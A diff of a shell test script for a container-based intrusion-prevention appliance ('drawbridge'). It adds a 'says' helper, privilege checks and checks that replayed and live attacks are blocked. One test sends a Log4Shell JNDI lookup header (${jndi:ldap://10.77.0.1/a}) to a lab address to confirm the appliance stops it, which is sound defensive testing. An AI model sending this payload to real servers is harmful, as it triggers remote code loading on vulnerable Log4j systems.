@@ -46,6 +46,13 @@ check() {
     sed 's/^/      /' "$work/out"
   fi
 }
+# says PATTERN COMMAND...: the command must succeed and say PATTERN. (No pipe into grep -q: it would end the writer early.)
+says() {
+  local pattern=$1
+  shift
+  "$@" >"$work/said" 2>&1 || { cat "$work/said"; return 1; }
+  grep -q -- "$pattern" "$work/said" || { cat "$work/said"; return 1; }
+}
 # fails PATTERN COMMAND...: the command must fail and say PATTERN.
 fails() {
   local pattern=$1
@@ -69,11 +76,11 @@ echo "built in $((SECONDS - started)) s, $($engine image inspect -f '{{.Size}}' 
 closed="--read-only --tmpfs /tmp:rw,size=16m --security-opt no-new-privileges --cap-drop ALL"
 bare() { $engine run --rm --network=none --no-healthcheck $closed "$image" "$@"; }
 attack=/opt/drawbridge/pcaps/lab-log4shell.pcap
-replays() { bare replay "$attack" -c /etc/drawbridge/drawbridge.yaml --eve /dev/stdout --events alert | tee "$work/replay" | grep -q '"event_type":"alert"'; }
-check "the default user is not root" test "$($engine run --rm --no-healthcheck --network=none --entrypoint id "$image" -u)" = 1000
+check "the default user is not root" says '^1000$' $engine run --rm --no-healthcheck --network=none --entrypoint id "$image" -u
 check "drawbridge check on the default configuration" bare check /etc/drawbridge/drawbridge.yaml
-check "drawbridge replay of a shipped capture raises an alert" replays
-check "drawbridge lab --replay --once tells the story" bare lab --replay --once
+check "drawbridge replay of a shipped capture raises an alert" says '"event_type":"alert".*"action":"blocked"' \
+  bare replay "$attack" -c /etc/drawbridge/drawbridge.yaml --eve /dev/stdout --events alert
+check "drawbridge lab --replay --once stops every attack" says 'Every attack was stopped' bare lab --replay --once
 check "an unknown capture is one line and exit 1" fails "no such file" bare replay /nowhere.pcap
 
 # ---- live ports ------------------------------------------------------------------------------------------------------------
@@ -92,7 +99,7 @@ in_container() { nsenter -t "$(pid)" -n "$@"; }
 from_inside() { ip netns exec "$inside" "$@"; }
 ready() {
   for _ in $(seq 100); do
-    $engine logs "$container" 2>/dev/null | grep -q '^READY$' && return 0
+    says '^READY$' $engine logs "$container" >/dev/null && return 0
     [ "$($engine inspect -f '{{.State.Running}}' "$container")" = true ] || break
     sleep 0.2
   done
@@ -106,11 +113,13 @@ plugged() { attach db-inside "$inside" 10.77.0.1/24 && attach db-outside "$outsi
 privileges() { # UID: of every thread; NET_ADMIN and NET_RAW are bits 12 and 13
   cat /proc/"$(pid)"/task/*/status >"$work/status"
   grep -E '^(Uid|CapPrm|CapEff|NoNewPrivs):' "$work/status" | sort | uniq -c
-  ! grep '^Uid:' "$work/status" | grep -qv "^Uid:	$1	$1	$1	$1$" || return 1
-  ! grep '^Cap\(Prm\|Eff\):' "$work/status" | grep -qv '0000000000003000$' || return 1
-  ! grep '^NoNewPrivs:' "$work/status" | grep -qv '1$'
+  awk -v uid="$1" '
+    /^Uid:/ { threads++; if ($2 != uid || $3 != uid || $4 != uid || $5 != uid) wrong++ }
+    /^Cap(Prm|Eff):/ && $2 != "0000000000003000" { wrong++ }
+    /^NoNewPrivs:/ && $2 != 1 { wrong++ }
+    END { exit threads < 2 || wrong > 0 }' "$work/status"
 }
-page() { from_inside curl -sS --max-time 5 http://10.77.0.2:8080/ | grep -q 'through the appliance'; }
+page() { says 'through the appliance' from_inside curl -sS --max-time 5 http://10.77.0.2:8080/; }
 blocked() {
   fails 'curl: (\(28\|52\|56\))' from_inside curl -sS --max-time 3 -H 'X-Api-Version: ${jndi:ldap://10.77.0.1/a}' http://10.77.0.2:8080/ || return 1
   sleep 0.5
@@ -119,7 +128,6 @@ blocked() {
 }
 metrics() {
   in_container curl -sS --max-time 5 http://127.0.0.1:9464/metrics >"$work/metrics"
-  grep -v '^#' "$work/metrics" | head -40
   grep -E '^drawbridge_[a-z_]*frames_total\{.*\} [1-9]' "$work/metrics"
 }
 healthy() {
@@ -128,7 +136,7 @@ healthy() {
     *) for _ in $(seq 40); do [ "$($engine inspect -f '{{.State.Health.Status}}' "$container")" = healthy ] && return 0; sleep 1; done; return 1 ;;
   esac
 }
-stops() { $engine stop -t 8 "$container" >/dev/null 2>&1 && [ "$($engine inspect -f '{{.State.ExitCode}}' "$container")" = 0 ] && $engine logs "$container" | grep -q '^DONE$'; }
+stops() { $engine stop -t 8 "$container" >/dev/null 2>&1 && [ "$($engine inspect -f '{{.State.ExitCode}}' "$container")" = 0 ] && says '^DONE$' $engine logs "$container"; }
 scenario() { # NAME UID FLAGS...
   local name=$1 uid=$2
   shift 2
@@ -147,7 +155,7 @@ scenario() { # NAME UID FLAGS...
 }
 
 # podman makes --cap-add ambient for a user that is not root, Docker does not: then the default user must be told, not left to guess.
-if $engine run --rm --no-healthcheck $live --entrypoint grep "$image" CapEff /proc/self/status | grep -q 0000000000003000; then
+if says 0000000000003000 $engine run --rm --no-healthcheck $live --entrypoint grep "$image" CapEff /proc/self/status >/dev/null; then
   scenario "user node" 1000
 else
   check "user node without capabilities is told what is missing" fails 'this takes CAP_NET_ADMIN' $engine run --rm --no-healthcheck $live "$image"
